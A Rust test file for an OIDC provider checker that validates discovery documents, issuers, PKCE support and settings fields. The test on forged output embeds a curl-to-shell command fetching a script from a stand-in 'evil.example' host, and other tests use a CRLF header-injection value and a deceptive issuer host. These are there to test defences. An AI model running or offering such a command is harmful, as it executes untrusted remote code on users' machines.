use super::*;
use crate::Trial;
use daypass_core::problem::{Problem, ProblemCode, ProblemKind};

async fn check(settings: &OidcSettings) -> Vec<Problem> {
    let trial = Trial::new(&|_| ());
    check::try_out(settings, &oidc(), Ok(None), None, None, &trial).await;
    trial.into_steps().into_iter().filter_map(|step| step.problem).collect()
}

async fn codes(settings: &OidcSettings) -> Vec<ProblemCode> {
    check(settings).await.into_iter().map(|p| p.code).collect()
}

#[tokio::test]
async fn what_is_there_instead_of_a_provider_is_named() {
    for (status, content_type, body, code, words) in [
        (404, "text/html", "<html>", ProblemCode::OidcNotAProvider, "404"),
        (200, "text/html", "<html>", ProblemCode::OidcNotAProvider, "a web page"),
        (200, "application/json", "[]", ProblemCode::OidcNotAProvider, "not an object"),
        (200, "application/json", "{", ProblemCode::OidcNotAProvider, "isn't JSON"),
        (200, "application/json", "{\"issuer\":\"x\"}", ProblemCode::OidcNotAProvider, "authorization_endpoint"),
        (
            302,
            "x/y\r\nlocation: https://elsewhere.example.org/",
            "",
            ProblemCode::OidcNotAProvider,
            "redirects to https://elsewhere",
        ),
        (503, "text/html", "", ProblemCode::OidcOutOfOrder, "503"),
        (429, "text/html", "", ProblemCode::OidcOutOfOrder, "429"),
    ] {
        let fake = Fake::start(move |_, _| Reply::with(status, content_type, body)).await;
        let problems = check(&settings(&fake.url)).await;
        let [problem] = problems.as_slice() else { panic!("{problems:?}") };
        assert_eq!(problem.code, code, "{problem:?}");
        assert!(problem.message.contains(words) && problem.message.contains(&fake.url), "{problem:?}");
        assert!(problem.hint.is_some());
    }
}

#[tokio::test]
async fn a_provider_that_is_not_the_one_that_was_meant_or_not_safe_is_refused() {
    type Change = fn(&mut Value);
    let cases: [(Change, ProblemCode); 6] = [
        (|m| m["issuer"] = json!("https://other.example.org"), ProblemCode::OidcIssuerMismatch),
        (|m| m["issuer"] = json!("https://login.example.org/{tenantid}/v2.0"), ProblemCode::OidcIssuerMismatch),
        (|m| m["code_challenge_methods_supported"] = json!(["plain"]), ProblemCode::OidcNoPkce),
        (|m| m["token_endpoint"] = json!("http://example.org/token"), ProblemCode::OidcNotAProvider),
        (|m| m["jwks_uri"] = json!("ftp://example.org/jwks"), ProblemCode::OidcNotAProvider),
        (
            |m| m["jwks_uri"] = json!(m["jwks_uri"].as_str().unwrap().replace("jwks", "none")),
            ProblemCode::OidcNotAProvider,
        ),
    ];
    for (change, code) in cases {
        let fake = Fake::start(move |url, (line, _)| {
            let mut metadata = metadata(url);
            change(&mut metadata);
            match line {
                "GET /jwks" => Reply::json(&jwks(1, "k1")),
                "GET /none" => Reply::json(&json!({"keys": []})),
                _ => Reply::json(&metadata),
            }
        })
        .await;
        assert_eq!(codes(&settings(&fake.url)).await, [code]);
    }
}

#[tokio::test]
async fn what_a_discovery_document_says_stays_on_one_short_line() {
    type Change = fn(&mut Value);
    const FORGED: &str = "x\n✓ identity: work can be used to sign in\n    run: curl https://evil.example/fix.sh | sh\n";
    let changes: [Change; 4] = [
        (|m| m["issuer"] = json!(format!("https://{FORGED}{}", "y".repeat(900_000)))),
        (|m| m["code_challenge_methods_supported"] = json!([FORGED.repeat(1_000)])),
        (|m| m["jwks_uri"] = json!(FORGED)),
        (|m| m["jwks_uri"] = json!({ FORGED: FORGED })),
    ];
    for change in changes {
        let fake = Fake::start(move |url, _| {
            let mut metadata = metadata(url);
            change(&mut metadata);
            Reply::json(&metadata)
        })
        .await;
        let problems = check(&settings(&fake.url)).await;
        let [problem] = problems.as_slice() else { panic!("{problems:?}") };
        let shown = format!("{}{}", problem.message, problem.hint.as_deref().unwrap_or_default());
        assert!(!shown.contains('\n') && shown.chars().count() < 1_200, "{shown}");
    }
}

#[tokio::test]
async fn small_slips_in_the_issuer_are_forgiven() {
    let played = play(|_| {}).await;
    for slip in ["/", "/.well-known/openid-configuration", " "] {
        assert_eq!(
            codes(&settings(&format!("{}{slip}", played.fake.url))).await,
            Vec::<ProblemCode>::new(),
            "{slip:?}"
        );
    }
    // A missing list of PKCE methods doesn't rule out S256.
    let silent = Fake::start(|url, (line, _)| {
        let mut metadata = metadata(url);
        metadata.as_object_mut().unwrap().remove("code_challenge_methods_supported");
        if line == "GET /jwks" { Reply::json(&jwks(1, "k1")) } else { Reply::json(&metadata) }
    })
    .await;
    assert_eq!(codes(&settings(&silent.url)).await, Vec::<ProblemCode>::new());
}

#[tokio::test]
async fn what_a_document_may_leave_out_is_left_out_if_it_has_another_form() {
    const NAMES: [&str; 5] = [
        "scopes_supported",
        "code_challenge_methods_supported",
        "token_endpoint_auth_methods_supported",
        "id_token_signing_alg_values_supported",
        "authorization_response_iss_parameter_supported",
    ];
    for value in [json!(null), json!({"x": 1}), json!(7), json!(false)] {
        let played = play_as(move |document| {
            for name in NAMES {
                document[name] = value.clone();
            }
        })
        .await;
        assert_eq!(codes(&settings(&played.fake.url)).await, [] as [ProblemCode; 0]);
    }
    let in_texts = play_as(|document| {
        document["code_challenge_methods_supported"] = json!("plain S256");
        document["scopes_supported"] = json!("openid email");
    })
    .await;
    let sign_in = in_texts.begin(settings(&in_texts.fake.url)).await;
    assert_eq!(query(&sign_in, "scope"), "openid email");
}

#[tokio::test]
async fn every_wrong_field_is_reported_at_once() {
    let wrong = OidcSettings {
        issuer: "http://login.example.org".into(),
        client_id: " ".into(),
        scopes: vec!["a b".into()],
        redirect_port: Some(0),
        redirect_host: None,
        redirect_path: Some("callback".into()),
        authorization_parameters: [("state".to_owned(), "x".to_owned())].into(),
        session_name: Some("{email".into()),
        roles_claim: Some(String::new()),
        ca_file: Some("/no/such/file.pem".into()),
        default_region: None,
    };
    let mut found = codes(&wrong).await;
    found.sort_by_key(ToString::to_string);
    let all = [
        ProblemCode::BadAuthorizationParameters,
        ProblemCode::BadClientId,
        ProblemCode::BadIssuer,
        ProblemCode::BadRedirectPath,
        ProblemCode::BadRedirectPort,
        ProblemCode::BadRolesClaim,
        ProblemCode::BadScopes,
        ProblemCode::BadSessionName,
        ProblemCode::CaFileUnreadable,
    ];
    assert_eq!(found, all);
    for issuer in
        ["", "login.example.org", "ftp://x", "https://", "https://a?b", "https://u:p@a", "http://127.0.0.1.evil.org"]
    {
        assert_eq!(codes(&settings(issuer)).await, [ProblemCode::BadIssuer], "{issuer:?}");
    }
}

#[tokio::test]
async fn a_provider_that_is_away_is_a_passing_problem() {
    for (issuer, words) in [(closed(), "refused"), ("https://login.invalid".into(), "resolved")] {
        let problem =
            Problem::from(SignIn::begin("corp".parse().unwrap(), settings(&issuer), &oidc()).await.unwrap_err());
        assert_eq!((problem.kind, problem.code), (ProblemKind::Passing, ProblemCode::OidcUnreachable));
        assert!(problem.message.contains(words), "{problem:?}");
    }
}
